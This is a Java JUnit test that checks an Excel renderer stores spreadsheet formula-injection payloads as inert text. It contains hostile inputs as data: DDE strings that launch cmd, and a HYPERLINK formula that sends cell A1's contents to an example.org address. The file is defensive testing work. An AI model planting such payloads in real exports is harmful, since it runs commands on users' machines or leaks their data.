package org.muster.render.excel;

import static org.assertj.core.api.Assertions.assertThat;
import static org.junit.jupiter.api.Assumptions.assumeTrue;

import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.List;
import org.apache.poi.ss.usermodel.CellType;
import org.apache.poi.xssf.usermodel.XSSFCell;
import org.apache.poi.xssf.usermodel.XSSFWorkbook;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import tools.jackson.databind.JsonNode;
import tools.jackson.databind.json.JsonMapper;

/** Whatever a record says is text in a workbook, and stays text when a reader edits the cell. */
final class FormulaInjectionTest {
  private static final List<String> PAYLOADS =
      List.of(
          "=1+1",
          "+1+1",
          "-2+3+cmd|' /C calc'!A0",
          "@SUM(1+1)*cmd|' /C calc'!A0",
          "=HYPERLINK(\"http://example.org?x=\"&A1,\"click\")",
          "=DDE(\"cmd\";\"/C calc\";\"x\")",
          "＝1+1",
          "\";=1+1",
          "{=1+1}",
          "'=1+1",
          "<f>1+1</f>",
          "]]><f>1</f>",
          "_x003D_1+1",
          "%0A-3+3",
          "\u00a0=1+1");

  @TempDir Path dir;

  @Test
  void writesFormulasAsText() throws IOException {
    check(PAYLOADS);
  }

  @Test
  void writesKnownPayloadsAsText() throws IOException {
    check(
        Files.readAllLines(
            corpora().resolve("torture/payloads/CSV_Injection/formula-payloads.txt")));
  }

  @Test
  void writesNaughtyStringsAsText() throws IOException {
    JsonNode strings =
        new JsonMapper().readTree(Files.readString(corpora().resolve("torture/blns/blns.json")));
    List<String> texts = new ArrayList<>();
    strings.forEach(s -> texts.add(s.asString()));
    assertThat(texts).hasSizeGreaterThan(500);
    check(texts);
  }

  private static Path corpora() {
    String folder = System.getProperty("muster.corpora", "");
    assumeTrue(!folder.isEmpty(), "muster.corpora names no folder with the large corpora");
    return Path.of(folder);
  }

  private void check(List<String> payloads) throws IOException {
    StringBuilder rows = new StringBuilder("<table><tbody>");
    List<String> expected = new ArrayList<>();
    for (String payload : payloads) {
      if (payload.codePoints().allMatch(FormulaInjectionTest::isXml)) {
        rows.append("<tr><td>").append(escape(payload)).append("</td></tr>");
        expected.add(payload.replaceAll("[ \t\r\n]+", " ").replaceAll("^ | $", ""));
      }
    }
    XSSFWorkbook workbook = new Sample(dir).sheet(rows + "</tbody></table>").open();
    assertThat(expected).isNotEmpty();
    for (int i = 0; i < expected.size(); i++) {
      XSSFCell cell = workbook.getSheet("S").getRow(i + 2).getCell(0);
      String text = expected.get(i);
      if (text.isEmpty()) {
        assertThat(cell.getCellType()).isEqualTo(CellType.BLANK);
        continue;
      }
      assertThat(cell.getCellType()).as(text).isEqualTo(CellType.STRING);
      assertThat(cell.getStringCellValue()).isEqualTo(text);
      assertThat(cell.getCellStyle().getQuotePrefixed())
          .as(text)
          .isEqualTo("=+-@＝＋－＠".indexOf(text.charAt(0)) >= 0);
    }
  }

  private static boolean isXml(int point) {
    return point == '\t'
        || point == '\n'
        || point == '\r'
        || (point >= 0x20 && point < 0xFFFE && !(point >= 0xD800 && point < 0xE000))
        || point > 0xFFFF;
  }

  private static String escape(String text) {
    return text.replace("&", "&amp;")
        .replace("<", "&lt;")
        .replace(">", "&gt;")
        .replace("\r", "&#13;");
  }
}
